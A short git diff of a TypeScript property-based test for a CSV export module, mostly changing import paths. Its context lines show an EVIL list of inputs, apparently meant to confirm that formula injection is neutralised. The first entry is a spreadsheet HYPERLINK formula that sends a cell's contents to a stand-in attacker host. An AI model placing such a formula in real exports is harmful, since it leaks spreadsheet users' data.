@@ -1,9 +1,9 @@
 import { parse } from 'csv-parse/sync'
 import fc from 'fast-check'
 import { expect, test } from 'vitest'
-import { csvOf, textCell } from '../console/src/csv.ts'
-import { anyText } from './any-text.ts'
-import { runs } from './seed.ts'
+import { csvOf, textCell } from '../src/csv.ts'
+import { anyText } from '../../test/any-text.ts'
+import { runs } from '../../test/seed.ts'
 
 const EVIL = [
   'x;=HYPERLINK("http://evil.example/?"&A1,"open")',
